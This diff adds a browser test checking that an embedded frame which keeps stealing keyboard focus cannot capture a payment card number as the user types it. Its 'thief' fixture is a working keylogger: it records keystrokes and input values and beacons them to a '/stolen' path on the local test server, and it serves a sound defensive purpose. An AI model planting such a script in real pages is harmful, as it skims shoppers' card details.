@@ -1,0 +1,30 @@
+import { afterAll, beforeAll, expect, it } from "vitest";
+import { type BrowserPool, startBrowserPool } from "../../src/index.ts";
+import { buyByCard, cardAsTyped, sentCard } from "../card-forms/card-purchase.ts";
+
+let pool: BrowserPool;
+beforeAll(async () => {
+  pool = await startBrowserPool();
+});
+afterAll(() => pool?.close());
+
+const thief = `<input id="catch"><script>
+  const send = (what) => navigator.sendBeacon('/stolen', new URLSearchParams({ what }));
+  addEventListener('keydown', ({ key }) => send(key), true);
+  addEventListener('input', ({ target }) => send(target.value), true);
+  setInterval(() => { window.focus(); document.getElementById('catch').focus(); }, 1);</script>`;
+
+it("a frame that takes the keyboard while the card is typed gets no key of it", async () => {
+  // The field hears keys alone: what is set at once is undone.
+  const form = `<label>Card number <input name="number"></label><label>Expiry <input name="expiry" placeholder="MM/YY"></label>
+    <label>CVC <input name="cvc"></label><iframe id="ad" height="80"></iframe><script>
+    ad.src = '//card-fields.localhost:' + location.port + '/thief';
+    let typed = '';
+    const number = document.getElementsByName('number')[0];
+    number.addEventListener('keydown', ({ key }) => { if (/^\\d$/.test(key)) typed += key; });
+    number.addEventListener('input', () => { if (number.value.replace(/ /g, '') !== typed) number.value = typed; });</script>`;
+  const { shop } = await buyByCard(pool, form, { pages: { "/thief": thief, "/stolen": "{}" } });
+
+  expect(shop.orders.map(sentCard)).toEqual([cardAsTyped]);
+  expect(shop.visits.filter(({ path }) => path === "/stolen")).toEqual([]);
+});
